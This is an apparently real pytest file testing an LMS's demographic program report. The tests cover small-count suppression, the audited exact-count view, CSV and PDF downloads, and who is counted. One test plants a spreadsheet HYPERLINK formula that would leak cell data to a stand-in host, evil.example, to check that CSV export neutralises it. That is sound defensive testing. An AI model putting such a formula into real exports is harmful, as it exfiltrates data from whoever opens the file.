"""The program report: who is counted, and no count from 1 to k-1 leaves the admin screen (SECURITY.md 27).

k is LMS_REPORT_MIN_CELL (5 here), so small counts read "<5". The page may show exact counts on
request, which is audited; the CSV and PDF downloads never do.
"""

import csv
import html
import io
import re
import shutil
from datetime import date, datetime, timedelta, timezone

import pytest
from sqlalchemy import select, update

from lms.accounts.models import User
from lms.attendance.models import AttendanceRecord, LearningSession, SessionKind, Source, Status
from lms.audit.models import Action, AuditEvent
from lms.core.clock import program_today
from lms.courses.models import Cohort, Course
from lms.credentials.models import Certificate, CertificateStatus
from lms.demographics import services as demographics
from lms.demographics.models import RaceCategory
from lms.enrollment.models import CourseEvaluation, Enrollment, EnrollmentPeriod
from lms.enrollment.services import enroll, withdraw
from lms.extensions import db
from lms.mentoring.models import ReflectiveSession, SessionFormat, SessionStatus
from lms.reports import data
from lms.reports.data import Filters
from lms.reports.report import build
from lms.sqltypes import utcnow
from tests.pages import field_error
from tests import pdfs

REPORT = "/admin/reports"
needs_pdftotext = pytest.mark.skipif(not shutil.which("pdftotext"), reason="needs poppler-utils")


class Program:
    """Cohorts of trainees made through the services, with their answers, completions and attendance."""

    def __init__(self, app, make_user, make_course):
        self.app, self.make_user, self.make_course = app, make_user, make_course

    def cohort(self, size: int, *, name: str, capacity: int | None = None, language: str = "en", **course):
        """A new course and cohort named `name`, with `size` new trainees enrolled; `.people` holds their ids."""
        made = self.make_course(capacity=capacity or max(size, 1), **course)
        with self.app.app_context():
            db.session.get(Cohort, made.cohort_id).name = name
            db.session.commit()
        made.name = name
        made.people = self.enroll(made, size, language=language)
        return made

    def enroll(self, made, size: int, *, language: str = "en") -> list[int]:
        people = [self.make_user().id for _ in range(size)]
        with self.app.app_context():
            course, cohort = db.session.get(Course, made.course_id), db.session.get(Cohort, made.cohort_id)
            for person in people:
                enroll(db.session.get(User, person), course, cohort, language, by_admin=True)
            db.session.commit()
        return people

    def answer(self, people, *, races=(), race_declined=False, languages=(), role=None, training=None) -> None:
        """Save the same answers for each person; categories named in English."""
        from lms.demographics.models import FormalTraining, ProviderRole

        with self.app.app_context():
            chosen = db.session.scalars(select(RaceCategory).where(RaceCategory.name.in_(races))).all()
            assert len(chosen) == len(races)
            for person in people:
                demographics.save_answers(
                    db.session.get(User, person), races=chosen, race_declined=race_declined,
                    languages=list(languages), languages_declined=False,
                    provider_role=ProviderRole(role) if role else None,
                    formal_training=FormalTraining(training) if training else None)
            db.session.commit()

    def complete(self, people) -> None:
        with self.app.app_context():
            db.session.execute(update(Enrollment).where(Enrollment.user_id.in_(people)).values(completed_at=utcnow()))
            db.session.commit()

    def hold_session(self, made, *, present, facilitator) -> None:
        """A course session held two days ago, for people seated since ten days ago; `present` attended."""
        now = utcnow()
        with self.app.app_context():
            db.session.execute(update(EnrollmentPeriod).where(EnrollmentPeriod.cohort_id == made.cohort_id)
                               .values(started_at=now - timedelta(days=10)))
            session = LearningSession(kind=SessionKind.COURSE, title="Circle of security", course_id=made.course_id,
                                      cohort_id=made.cohort_id, starts_at=now - timedelta(days=2),
                                      ends_at=now - timedelta(days=2, hours=-2), language="en",
                                      facilitator_id=facilitator.id)
            db.session.add(session)
            db.session.flush()
            db.session.add_all(AttendanceRecord(session_id=session.id, trainee_id=person, status=Status.PRESENT,
                                                source=Source.FACILITATOR) for person in present)
            db.session.commit()

    def reflect(self, people, *, minutes: int, mentor) -> None:
        """A reflective-practice session of `minutes` logged for each of `people`."""
        with self.app.app_context():
            db.session.add(ReflectiveSession(
                mentor_id=mentor.id, status=SessionStatus.LOGGED, held_on=program_today(), duration_minutes=minutes,
                format=SessionFormat.VIDEO, language="en",
                attendees=db.session.scalars(select(User).where(User.id.in_(people))).all()))
            db.session.commit()

    def certify(self, made, people) -> None:
        """A valid certificate for each of `people`, stored as issued (the report reads only who, where and when)."""
        with self.app.app_context():
            for person in people:
                db.session.add(Certificate(
                    serial=f"R-{person}", code=f"report-test-{person}", trainee_id=person,
                    program_id=made.program_id, cohort_id=made.cohort_id, status=CertificateStatus.VALID,
                    printed_name=f"Person {person}", language="en", pd_hours=6, completed_on=program_today(),
                    issuer="King County", pdf=b"%PDF", sha256=f"{person:064d}", credential="{}"))
            db.session.commit()

    def evaluate(self, person: int, comments: str, *, consent: bool) -> None:
        with self.app.app_context():
            enrollment = db.session.scalar(select(Enrollment).where(Enrollment.user_id == person))
            enrollment.completed_at = enrollment.completed_at or utcnow()
            db.session.add(CourseEvaluation(
                enrollment_id=enrollment.id, course_id=enrollment.course_id, language="en", rating_overall=5,
                rating_relevance=5, rating_language=5, comments=comments, consent_to_quote=consent))
            db.session.commit()


@pytest.fixture
def program(app, make_user, make_course):
    return Program(app, make_user, make_course)


@pytest.fixture
def twelve(program):
    """A cohort of 12: two chose "Asian", five "Caucasian", five did not answer."""
    made = program.cohort(12, name="Spring cohort")
    program.answer(made.people[:2], races=["Asian"])
    program.answer(made.people[2:7], races=["Caucasian"])
    return made


def report(app, *, exact=False, **filters):
    with app.test_request_context():
        return build(Filters(**filters), exact=exact)


def participants(app, **filters) -> dict[int, int]:
    """Who the report counts, and the cohort each is counted in."""
    with app.test_request_context():
        return data.gather(Filters(**filters)).cohort_of


def breakdown(built, key: str) -> dict[str, list[str]]:
    """A breakdown as printed: answer -> [one cell per cohort, all cohorts, share of all]."""
    [found] = [b for b in built.breakdowns if b.key == key]
    return {row[0].text: [cell.text for cell in row[1:]] for row in found.rows}


def summary(built) -> dict[str, dict[str, str]]:
    """The summary as printed: cohort (or "All cohorts") -> {column: text}."""
    return {row[0].text: dict(zip(built.summary_header[1:], (cell.text for cell in row[1:])))
            for row in built.summary}


def page_table(response, table_id: str) -> dict[str, list[str]]:
    """A table of the page as a sighted reader sees it: first cell -> the other cells (header row included)."""
    body = response.get_data(as_text=True)
    table = re.search(rf'<table id="{table_id}".*?</table>', body, re.S)
    assert table, f"no table #{table_id}"
    rows = {}
    for row in re.findall(r"<tr\b[^>]*>(.*?)</tr>", table.group(0), re.S):
        cells = [re.sub(r'<span class="visually-hidden">.*?</span>', "", cell, flags=re.S)
                 for cell in re.findall(r"<t[hd]\b[^>]*>(.*?)</t[hd]>", row, re.S)]
        cells = [" ".join(html.unescape(re.sub(r"<[^>]+>", " ", cell)).split()) for cell in cells]
        rows[cells[0]] = cells[1:]
    return rows


def section_words(response, key: str) -> list[str]:
    """Every word of one section of the page, its chart included."""
    body = response.get_data(as_text=True)
    section = re.search(rf'<section aria-labelledby="{key}-title">(.*?)</section>', body, re.S).group(1)
    return html.unescape(re.sub(r"<[^>]+>", " ", section)).split()


def csv_rows(response) -> list[list[str]]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff"), "spreadsheets need the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body[1:])))


def pdf_text(tmp_path, response) -> str:
    path = tmp_path / "report.pdf"
    path.write_bytes(response.data)
    return pdfs.pdf_text(path)


def exact_count_events(app) -> list[tuple]:
    with app.app_context():
        return [(e.action, e.actor_id) for e in db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == Action.REPORT_EXACT_COUNTS.value))]


# --- Small counts on the page, in the CSV and in the PDF ----------------------------------------------


def test_the_page_shows_a_count_of_two_as_less_than_five_and_hides_a_cell_that_would_give_it_away(
        admin_client, twelve):
    response = admin_client.get(REPORT)
    assert response.status_code == 200
    race = page_table(response, "race-table")
    assert race["Answer"] == ["Spring cohort", "All cohorts", "Share of all"]
    assert race["Asian"] == ["<5", "<5", "—"]
    assert race["All participants"][:2] == ["12", "12"], "the cohort's total is not small"
    others_hidden = [answer for answer, cells in race.items() if answer != "Asian" and cells[0] == "*"]
    assert others_hidden, "with only one hidden cell, 12 minus the others would give the 2 away"
    assert "2" not in section_words(response, "race")


def test_exact_counts_show_the_two_and_are_recorded_in_the_audit_log(app, admin, admin_client, twelve):
    admin_client.get(REPORT)
    assert exact_count_events(app) == []

    response = admin_client.post_form(REPORT, {})
    assert response.status_code == 200
    race = page_table(response, "race-table")
    assert race["Asian"][:2] == ["2", "2"]
    assert race["Caucasian"][:2] == ["5", "5"]
    assert exact_count_events(app) == [(Action.REPORT_EXACT_COUNTS.value, admin.id)]


def test_a_link_cannot_show_exact_counts_or_write_to_the_audit_log(app, admin_client, twelve):
    """A GET writes nothing: a cross-site link or image asking for exact counts gets the hidden ones."""
    response = admin_client.get(f"{REPORT}?exact=1")
    assert response.status_code == 200 and page_table(response, "race-table")["Asian"][:2] == ["<5", "<5"]
    assert admin_client.post_form(REPORT, {}, token=False).status_code == 400  # no CSRF token, no exact counts
    assert exact_count_events(app) == []


def test_the_csv_hides_small_counts_even_when_exact_counts_are_asked_for(app, admin_client, twelve):
    response = admin_client.get(f"{REPORT}/race.csv?exact=1")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert "no-store" in response.headers["Cache-Control"]
    rows = csv_rows(response)
    assert rows[0] == ["Participants by race/ethnicity"]
    assert rows[1] == ["Answer", "Spring cohort", "All cohorts", "Share of all"]
    by_answer = {row[0]: row[1:] for row in rows[2:] if len(row) > 1}
    assert by_answer["Asian"] == ["<5", "<5", "—"]
    assert "*" in by_answer["Caucasian"] + by_answer["Not answered"]
    assert exact_count_events(app) == [], "a download is never the exact view"


def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(app, admin_client, twelve):
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Spring")'
    with app.app_context():
        db.session.get(Cohort, twelve.cohort_id).name = formula
        db.session.commit()

    race = csv_rows(admin_client.get(f"{REPORT}/race.csv?cohort={twelve.cohort_id}"))
    assert race[1][1] == "'" + formula
    assert ["'" + formula] in race, "the filter description under the table is neutralised too"
    summary_rows = csv_rows(admin_client.get(f"{REPORT}/summary.csv"))
    assert ["'" + formula] == summary_rows[2][:1]
    assert not [cell for row in race + summary_rows for cell in row if cell.startswith(("=", "+", "-", "@"))]


@needs_pdftotext
def test_the_pdf_shows_less_than_five_and_never_the_exact_count(admin_client, twelve, tmp_path):
    response = admin_client.get(f"{REPORT}/report.pdf?exact=1")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment")
    text = pdf_text(tmp_path, response)
    assert "<5" in text
    asian = [line.split() for line in text.splitlines() if line.strip().startswith("Asian")]
    assert asian and all("<5" in line or "—" in line for line in asian)
    assert not [line for line in asian if "2" in line]


@pytest.mark.parametrize("download", ["race.csv", "summary.csv", "report.pdf"])
def test_report_downloads_ask_to_log_in_again_when_the_login_is_old(app, admin_client, twelve, download):
    with admin_client.session_transaction() as session:
        session["lms_auth_at"] -= (app.config["LMS_RECENT_LOGIN_MINUTES"] + 1) * 60
    response = admin_client.get(f"{REPORT}/{download}")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/reauthenticate")


def test_k_is_read_from_the_configuration(app, twelve):
    app.config["LMS_REPORT_MIN_CELL"] = 10
    race = breakdown(report(app), "race")
    assert race["Asian"][:2] == race["Caucasian"][:2] == ["<10", "<10"]


def test_the_threshold_cannot_be_set_below_three(tmp_path):
    from tests.conftest import make_host_app

    with pytest.raises(ValueError, match="at least 3"):
        make_host_app(tmp_path, create_tables=False, LMS_REPORT_MIN_CELL=2)


# --- Totals are published; cells inside the table are hidden instead ---------------------------------


TOTALS_HIDDEN = "Some totals are hidden too"


def test_every_total_is_published_when_hiding_cells_inside_the_table_protects_the_small_ones(
        admin_client, program):
    seven, twelve_ = program.cohort(7, name="Seven", capacity=7), program.cohort(12, name="Twelve")
    program.answer(seven.people[:6], races=["African American"])
    program.answer(seven.people[6:], races=["Caucasian"])
    program.answer(twelve_.people[:5], races=["Asian"])
    program.answer(twelve_.people[5:6], races=["African American"])
    program.answer(twelve_.people[6:], races=["Caucasian"])

    race = page_table(admin_client.get(REPORT), "race-table")
    assert [race[answer][2] for answer in ("Asian", "African American", "Caucasian", "All participants")] == [
        "5", "7", "7", "19"]
    assert race["African American"][:2] == ["*", "<5"] and race["Caucasian"][:2] == ["<5", "*"]
    assert TOTALS_HIDDEN not in admin_client.get(REPORT).get_data(as_text=True)


def test_total_certificates_issued_is_published(app, admin_client, program):
    cohorts = [program.cohort(40, name="A", capacity=40), program.cohort(40, name="B", capacity=40),
               program.cohort(21, name="C", capacity=21)]
    for made, certified in zip(cohorts, (5, 7, 1)):
        program.certify(made, made.people[:certified])

    rows = page_table(admin_client.get(REPORT), "summary-table")
    assert rows["All cohorts"][0] == "101" and rows["All cohorts"][-1] == "13"
    assert [rows[name][0] for name in "ABC"] == ["40", "40", "21"], "every cohort's size is published"
    assert rows["C"][-1] == "<5"
    assert "13" in [row[-1] for row in csv_rows(admin_client.get(f"{REPORT}/summary.csv"))]


@needs_pdftotext
def test_a_total_that_would_give_a_small_count_away_is_hidden_and_the_page_csv_and_pdf_say_why(
        admin_client, program, tmp_path):
    # Six Asian in a cohort of 6 and two in a cohort of 20: with 6 shown, an Asian total of 8 gives the 2 away,
    # and no cell of the first cohort can be hidden instead (its other cells are 0).
    six, twenty = program.cohort(6, name="Six"), program.cohort(20, name="Twenty")
    program.answer(six.people, races=["Asian"])
    program.answer(twenty.people[:2], races=["Asian"])
    program.answer(twenty.people[2:], races=["Caucasian"])

    response = admin_client.get(REPORT)
    race = page_table(response, "race-table")
    assert race["Asian"][:3] == ["6", "<5", "*"]
    assert race["All participants"][:3] == ["6", "20", "26"]
    assert TOTALS_HIDDEN in " ".join(section_words(response, "race"))
    assert TOTALS_HIDDEN not in " ".join(section_words(response, "language"))
    assert [row for row in csv_rows(admin_client.get(f"{REPORT}/race.csv")) if TOTALS_HIDDEN in " ".join(row)]
    assert TOTALS_HIDDEN in " ".join(pdf_text(tmp_path, admin_client.get(f"{REPORT}/report.pdf")).split())


# --- Who is counted ----------------------------------------------------------------------------------


def test_a_person_in_two_cohorts_is_counted_once_in_the_earliest(app, program):
    later = program.cohort(5, name="Autumn", capacity=10)
    earlier = program.cohort(5, name="Spring", capacity=10)
    with app.app_context():
        db.session.get(Cohort, earlier.cohort_id).starts_on = program_today() - timedelta(days=60)
        db.session.commit()
    both = program.enroll(later, 1)[0]
    with app.app_context():
        enroll(db.session.get(User, both), db.session.get(Course, earlier.course_id),
               db.session.get(Cohort, earlier.cohort_id), "en", by_admin=True)
        db.session.commit()

    assert participants(app)[both] == earlier.cohort_id
    rows = summary(report(app, exact=True))
    assert [rows[name]["Participants"] for name in ("Spring", "Autumn", "All cohorts")] == ["6", "5", "11"]
    assert [rows[name]["Enrollments"] for name in ("Spring", "Autumn", "All cohorts")] == ["6", "6", "12"]


def test_people_only_on_the_waitlist_are_not_participants(app, program):
    made = program.cohort(5, name="Full", capacity=5)
    waiting = program.enroll(made, 2)
    with app.app_context():
        assert db.session.scalar(select(Enrollment.status).where(Enrollment.user_id == waiting[0])) == "waitlisted"

    assert set(participants(app)) == set(made.people)
    assert summary(report(app, exact=True))["All cohorts"]["Participants"] == "5"


def test_the_date_range_decides_who_is_counted(app, program):
    made = program.cohort(3, name="Year-round")
    winter, spanning, now = made.people
    with app.app_context():
        withdraw(db.session.scalar(select(Enrollment).where(Enrollment.user_id == winter)))
        db.session.execute(update(EnrollmentPeriod).where(EnrollmentPeriod.user_id == winter).values(
            started_at=datetime(2025, 1, 10, 18, tzinfo=timezone.utc),
            ended_at=datetime(2025, 2, 20, 18, tzinfo=timezone.utc)))
        db.session.execute(update(EnrollmentPeriod).where(EnrollmentPeriod.user_id == spanning).values(
            started_at=datetime(2025, 1, 5, 18, tzinfo=timezone.utc)))
        db.session.commit()
        today = program_today()

    assert set(participants(app, start=date(2025, 1, 1), end=date(2025, 1, 31))) == {winter, spanning}
    assert set(participants(app, start=today)) == {spanning, now}
    assert set(participants(app, end=date(2024, 12, 31))) == set()
    assert set(participants(app)) == {winter, spanning, now}


def test_the_course_filter_counts_only_that_courses_people(admin_client, program):
    first = program.cohort(6, name="Infant course cohort")
    program.cohort(7, name="Toddler course cohort")

    everyone = page_table(admin_client.get(REPORT), "summary-table")
    assert everyone["All cohorts"][0] == "13"
    filtered = page_table(admin_client.get(f"{REPORT}?course={first.course_id}"), "summary-table")
    assert filtered["All cohorts"][0] == "6"
    assert "Toddler course cohort" not in filtered


def test_the_language_filter_counts_only_people_taking_the_course_in_that_language(app, program):
    made = program.cohort(6, name="Bilingual", capacity=12, translations={"es": "Curso"})
    in_spanish = program.enroll(made, 5, language="es")

    assert set(participants(app, language="es")) == set(in_spanish)
    assert set(participants(app, language="en")) == set(made.people)
    assert set(participants(app, language="vi")) == set()


def test_an_end_date_before_the_start_date_is_refused(admin_client):
    response = admin_client.get(f"{REPORT}?start=2025-05-01&end=2025-01-31")
    assert response.status_code == 422
    assert field_error(response.get_data(as_text=True), "end") == "The end date must be on or after the start date."


def test_an_unknown_table_is_not_found(admin_client, twelve):
    assert admin_client.get(f"{REPORT}/race.csv").status_code == 200
    assert admin_client.get(f"{REPORT}/salaries.csv").status_code == 404


def test_building_the_report_takes_as_many_queries_for_50_people_as_for_5(
        app, admin, admin_client, program, count_queries, make_user):
    mentor = make_user("mentor")
    cohorts = [program.cohort(0, name=f"Cohort {n}", capacity=60) for n in "ABC"]

    def add(per_cohort: int) -> None:
        for n, made in enumerate(cohorts):
            people = program.enroll(made, per_cohort)
            program.answer(people[:1], races=["Asian", "Caucasian"], languages=["en", "es"], role="home_visitor")
            program.answer(people[1:], races=[["Asian", "Other", "Caucasian"][n]], languages=["so"], training="no")
            program.complete(people[::2])
            program.hold_session(made, present=people[1:], facilitator=admin)
            program.reflect(people, minutes=90, mentor=mentor)
            program.evaluate(people[0], f"Quote from cohort {n}", consent=True)

    def queries() -> tuple[int, int]:
        with app.test_request_context(), count_queries() as statements:
            build(Filters())
        built = len(statements)
        with count_queries() as statements:
            assert admin_client.get(REPORT).status_code == 200
        return built, len(statements)

    add(2)
    assert len(participants(app)) == 6
    with_few = queries()
    add(15)
    assert len(participants(app)) == 51
    assert queries() == with_few


# --- What is shown about whom -------------------------------------------------------------------------


def test_someone_who_chose_several_categories_is_counted_once_under_two_or_more(app, program):
    made = program.cohort(6, name="Spring")
    program.answer(made.people[:1], races=["Asian", "Pacific Islander"])
    program.answer(made.people[1:], races=["Asian"])

    race = breakdown(report(app, exact=True), "race")
    assert race["Two or more"][:2] == ["1", "1"]
    assert race["Asian"][:2] == ["5", "5"]
    assert race["Pacific Islander"][:2] == ["0", "0"]
    assert race["All participants"][:2] == ["6", "6"]


def test_the_share_of_a_hidden_count_is_hidden(app, twelve):
    race = breakdown(report(app), "race")
    assert race["Asian"][-1] == "—"
    hidden_by_complement = [answer for answer, cells in race.items() if cells[1] == "*"]
    assert hidden_by_complement and all(race[answer][-1] == "—" for answer in hidden_by_complement)
    shown = [answer for answer, cells in race.items()
             if cells[1] not in ("<5", "*", "0") and answer != "All participants"]
    assert shown and all(race[answer][-1].endswith("%") for answer in shown)
    assert breakdown(report(app, exact=True), "race")["Asian"][-1] == "16.7%"


def test_a_cohort_smaller_than_k_gets_no_breakdown(app, program):
    program.cohort(12, name="Large")
    small = program.cohort(3, name="Small")
    program.answer(small.people, races=["Asian"], languages=["en"])

    built = report(app)
    for key in ("race", "language", "role", "training"):
        table = breakdown(built, key)
        column = [cells[1] for cells in table.values()]
        assert column == ["<5"] * len(column), f"{key}: {table}"
    assert breakdown(report(app, exact=True), "race")["Asian"][1] == "3"


def test_rates_and_hours_are_hidden_for_a_group_smaller_than_k(app, admin, program, make_user):
    mentor = make_user("mentor")
    cohorts = [program.cohort(6, name="A"), program.cohort(7, name="B"), program.cohort(3, name="Small")]
    for made in cohorts:
        program.complete(made.people)
        program.hold_session(made, present=made.people, facilitator=admin)
        program.reflect(made.people, minutes=90, mentor=mentor)

    rows = summary(report(app))
    small = rows["Small"]
    assert small["Participants"] == "<5"
    assert [small["Completion rate"], small["Attendance rate"], small["Reflective-practice hours"]] == ["—"] * 3
    assert [rows["B"]["Completion rate"], rows["B"]["Attendance rate"]] == ["100%", "100%"]
    everyone = rows["All cohorts"]
    assert [everyone["Participants"], everyone["Completion rate"], everyone["Attendance rate"],
            everyone["Reflective-practice hours"]] == ["16", "100%", "100%", "24"]

    exact = summary(report(app, exact=True))["Small"]
    assert [exact["Participants"], exact["Completion rate"], exact["Attendance rate"],
            exact["Reflective-practice hours"]] == ["3", "100%", "100%", "4.5"]


def test_a_small_cohorts_hours_cannot_be_worked_out_from_the_all_cohorts_figure(app, admin, program, make_user):
    mentor = make_user("mentor")
    cohorts = [program.cohort(6, name="A"), program.cohort(7, name="B"), program.cohort(3, name="Small")]
    for made, minutes in zip(cohorts, (60, 120, 600)):
        program.hold_session(made, present=made.people[::2], facilitator=admin)
        program.reflect(made.people, minutes=minutes, mentor=mentor)

    rows = summary(report(app))
    assert rows["All cohorts"]["Reflective-practice hours"] != "—"
    size = {"A": 6, "B": 7, "Small": 3}
    for measure in ("Reflective-practice hours", "Attendance rate"):
        hidden = [name for name in size if rows[name][measure] == "—"]
        assert "Small" in hidden, measure
        assert sum(size[name] for name in hidden) >= 5, (
            f"{measure}: the total minus the cohorts shown would give away {hidden}'s figure")


def test_consented_evaluation_quotes_appear_under_voices_from_the_field_and_others_do_not(admin_client, program):
    made = program.cohort(6, name="Spring")
    program.evaluate(made.people[0], "Learning in Somali with my peers changed how I greet families.", consent=True)
    program.evaluate(made.people[1], "My supervisor at the center does not listen.", consent=False)
    program.evaluate(made.people[2], "   ", consent=True)

    response = admin_client.get(REPORT)
    body = response.get_data(as_text=True)
    voices = re.search(r'<section aria-labelledby="quotes-title">(.*?)</section>', body, re.S).group(1)
    assert "Voices from the field" in voices
    assert re.findall(r"<blockquote[^>]*><p>(.*?)</p></blockquote>", voices) == [
        "Learning in Somali with my peers changed how I greet families."]
    assert "does not listen" not in body
